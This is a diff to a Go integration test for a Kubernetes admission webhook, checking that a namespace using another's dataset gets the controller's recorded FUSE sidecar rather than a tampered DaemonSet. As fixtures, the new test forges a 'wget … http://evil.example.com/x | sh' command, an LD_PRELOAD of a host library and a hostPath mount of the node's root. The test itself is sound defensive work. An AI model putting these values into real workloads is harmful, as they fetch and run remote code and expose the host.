@@ -2,6 +2,7 @@ package webhook_test
 
 import (
 	"context"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -138,42 +139,16 @@ func TestDefaultGuardsStopTenantEscape(t *testing.T) {
 // TestCrossNamespaceSidecarImageIsTheConsumers is the audit's M12 proof
 // through the real API server: with crossNamespace.allow letting team A's
 // Pods use dataset B/raw, B's users set B's FUSE image to one of their
-// own; A's serverless Pod is denied that sidecar (rule
+// own (the controller renders it into its record of B's FUSE template);
+// A's serverless Pod is denied that sidecar (rule
 // cross-namespace-sidecar-image) until A's own guards allow the image.
 func TestCrossNamespaceSidecarImageIsTheConsumers(t *testing.T) {
 	consumer, producer := env.Namespace(t), env.Namespace(t)
 	seedDataset(t, producer, "raw", datav1alpha1.BoundDatasetPhase)
-	fuse := &appsv1.DaemonSet{}
-	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: "raw" + datav1alpha1.FuseDaemonSetSuffix}, fuse); err != nil {
-		t.Fatal(err)
-	}
-	fuse.Spec.Template.Spec.Containers[0].Image = "evil.example.com/fuse:latest"
-	if err := env.Client.Update(ctxT(t), fuse); err != nil {
-		t.Fatal(err)
-	}
-	// A's claim on B's dataset volume.
-	theirs := &corev1.PersistentVolumeClaim{}
-	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: "raw"}, theirs); err != nil {
-		t.Fatal(err)
-	}
-	mine := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Name: "raw", Namespace: consumer, Labels: theirs.Labels}, Spec: *theirs.Spec.DeepCopy()}
-	if err := env.Client.Create(ctxT(t), mine); err != nil {
-		t.Fatal(err)
-	}
-
-	bundle := func(guards string) string {
-		return "mutating:\n  crossNamespace:\n    allow: [{podNamespace: " + consumer + ", datasetNamespace: " + producer + ", dataset: raw}]\n" + guards
-	}
-	cm := &corev1.ConfigMap{
-		ObjectMeta: metav1.ObjectMeta{Name: "cross-" + consumer, Namespace: webhook.DefaultNamespace, Labels: map[string]string{policy.BundleLabel: "true"}},
-		Data:       map[string]string{"cross.yaml": bundle("")},
-	}
-	if err := env.Client.Create(ctxT(t), cm); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), cm) })
-	waitFor(t, policyLoad, "the bundle loads", func() bool { return annotation(t, cm) == "ok" })
-	waitForCache()
+	// B's runtime renders a FUSE image of B's own registry (spec.fuse.image):
+	// the controller's record holds it.
+	recordFuse(t, producer, "raw", func(spec *corev1.PodSpec) { spec.Containers[0].Image = "evil.example.com/fuse:latest" })
+	cm := crossNamespaceClaim(t, consumer, producer)
 
 	pod := datasetPod("app", map[string]string{"serverless.fluid.io/inject": "true"}, "raw")
 	pod.Namespace = consumer
@@ -186,11 +161,139 @@ func TestCrossNamespaceSidecarImageIsTheConsumers(t *testing.T) {
 	if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(cm), cm); err != nil {
 		t.Fatal(err)
 	}
-	cm.Data["cross.yaml"] = bundle("validating:\n  guards:\n    " + consumer + ":\n      imagePrefixes: [evil.example.com/]\n")
+	cm.Data["cross.yaml"] = crossNamespaceBundle(consumer, producer, "validating:\n  guards:\n    "+consumer+":\n      imagePrefixes: [evil.example.com/]\n")
 	if err := env.Client.Update(ctxT(t), cm); err != nil {
 		t.Fatal(err)
 	}
 	waitFor(t, 5*time.Second, "the consumer's image list admits the sidecar", func() bool {
 		return env.Client.Create(ctxT(t), pod.DeepCopy(), client.DryRunAll) == nil
 	})
+}
+
+// TestCrossNamespaceSidecarIsTheControllersTemplate (reliability audit
+// M12): namespace B's users change the command, env and volumes of B's FUSE
+// DaemonSet; namespace A's serverless Pod using B's dataset gets the
+// sidecar the controller recorded for B's runtime, not B's change. Without
+// a record it is denied (rule cross-namespace-sidecar-record). B's own Pods
+// keep getting B's DaemonSet's template.
+func TestCrossNamespaceSidecarIsTheControllersTemplate(t *testing.T) {
+	consumer, producer := env.Namespace(t), env.Namespace(t)
+	seedDataset(t, producer, "raw", datav1alpha1.BoundDatasetPhase)
+	record := recordFuse(t, producer, "raw", nil)
+	rendered := record.Template.Spec.Containers[0]
+	fuse := &appsv1.DaemonSet{}
+	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: "raw" + datav1alpha1.FuseDaemonSetSuffix}, fuse); err != nil {
+		t.Fatal(err)
+	}
+	forged := &fuse.Spec.Template.Spec
+	forged.Containers[0].Command = []string{"sh", "-c", "wget -qO- http://evil.example.com/x | sh"}
+	forged.Containers[0].Env = append(forged.Containers[0].Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/host/evil.so"})
+	forged.Volumes = append(forged.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
+	forged.Containers[0].VolumeMounts = append(forged.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "host", MountPath: "/host"})
+	if err := env.Client.Update(ctxT(t), fuse); err != nil {
+		t.Fatal(err)
+	}
+	crossNamespaceClaim(t, consumer, producer)
+
+	sidecar := func(ns string) (*corev1.Container, *corev1.Pod) {
+		t.Helper()
+		pod := datasetPod("app", map[string]string{"serverless.fluid.io/inject": "true"}, "raw")
+		pod.Namespace = ns
+		if err := env.Client.Create(ctxT(t), pod, client.DryRunAll); err != nil {
+			t.Fatalf("a serverless Pod of %s using %s/raw: %v", ns, producer, err)
+		}
+		for _, cs := range [][]corev1.Container{pod.Spec.InitContainers, pod.Spec.Containers} {
+			for i := range cs {
+				if strings.HasPrefix(cs[i].Name, "fluid-fuse-") {
+					return &cs[i], pod
+				}
+			}
+		}
+		t.Fatalf("a serverless Pod of %s using %s/raw got no FUSE sidecar: %+v", ns, producer, pod.Spec)
+		return nil, nil
+	}
+	c, pod := sidecar(consumer)
+	if !slices.Equal(c.Command, rendered.Command) {
+		t.Errorf("the consumer's sidecar runs %q, want the recorded %q", c.Command, rendered.Command)
+	}
+	for _, e := range c.Env {
+		if e.Name == "LD_PRELOAD" {
+			t.Errorf("the consumer's sidecar got the producer's env %s=%s", e.Name, e.Value)
+		}
+	}
+	for _, v := range pod.Spec.Volumes {
+		if v.HostPath != nil && v.HostPath.Path == "/" {
+			t.Errorf("the consumer's Pod got the producer's hostPath volume %q", v.Name)
+		}
+	}
+	if own, _ := sidecar(producer); !slices.Equal(own.Command, forged.Containers[0].Command) {
+		t.Errorf("the producer's own sidecar runs %q, want its DaemonSet's %q", own.Command, forged.Containers[0].Command)
+	}
+
+	if err := env.Client.Delete(ctxT(t), record); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, 5*time.Second, "without the record the consumer's Pod is denied", func() bool {
+		pod := datasetPod("app", map[string]string{"serverless.fluid.io/inject": "true"}, "raw")
+		pod.Namespace = consumer
+		err := env.Client.Create(ctxT(t), pod, client.DryRunAll)
+		return err != nil && strings.Contains(err.Error(), "cross-namespace-sidecar-record")
+	})
+}
+
+// recordFuse writes the FUSE record of producer/name's runtime as the
+// controller does (datav1alpha1.FuseRecord, in the webhook's namespace),
+// from its FUSE DaemonSet's template changed by change (nil: as it is),
+// and waits until the webhook's cache has it.
+func recordFuse(t *testing.T, producer, name string, change func(*corev1.PodSpec)) *corev1.PodTemplate {
+	t.Helper()
+	rt := &datav1alpha1.JuiceFSRuntime{}
+	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: name}, rt); err != nil {
+		t.Fatal(err)
+	}
+	fuse := &appsv1.DaemonSet{}
+	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: name + datav1alpha1.FuseDaemonSetSuffix}, fuse); err != nil {
+		t.Fatal(err)
+	}
+	tmpl := *fuse.Spec.Template.DeepCopy()
+	if change != nil {
+		change(&tmpl.Spec)
+	}
+	record := datav1alpha1.FuseRecord(webhook.DefaultNamespace, rt, tmpl)
+	if err := env.Client.Create(ctxT(t), record); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), record) })
+	waitForCache()
+	return record
+}
+
+// crossNamespaceClaim gives consumer a claim on producer's dataset "raw"
+// volume and a policy ConfigMap allowing its use (crossNamespace.allow),
+// loaded when it returns.
+func crossNamespaceClaim(t *testing.T, consumer, producer string) *corev1.ConfigMap {
+	t.Helper()
+	theirs := &corev1.PersistentVolumeClaim{}
+	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: "raw"}, theirs); err != nil {
+		t.Fatal(err)
+	}
+	mine := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Name: "raw", Namespace: consumer, Labels: theirs.Labels}, Spec: *theirs.Spec.DeepCopy()}
+	if err := env.Client.Create(ctxT(t), mine); err != nil {
+		t.Fatal(err)
+	}
+	cm := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Name: "cross-" + consumer, Namespace: webhook.DefaultNamespace, Labels: map[string]string{policy.BundleLabel: "true"}},
+		Data:       map[string]string{"cross.yaml": crossNamespaceBundle(consumer, producer, "")},
+	}
+	if err := env.Client.Create(ctxT(t), cm); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), cm) })
+	waitFor(t, policyLoad, "the bundle loads", func() bool { return annotation(t, cm) == "ok" })
+	waitForCache()
+	return cm
+}
+
+func crossNamespaceBundle(consumer, producer, guards string) string {
+	return "mutating:\n  crossNamespace:\n    allow: [{podNamespace: " + consumer + ", datasetNamespace: " + producer + ", dataset: raw}]\n" + guards
 }
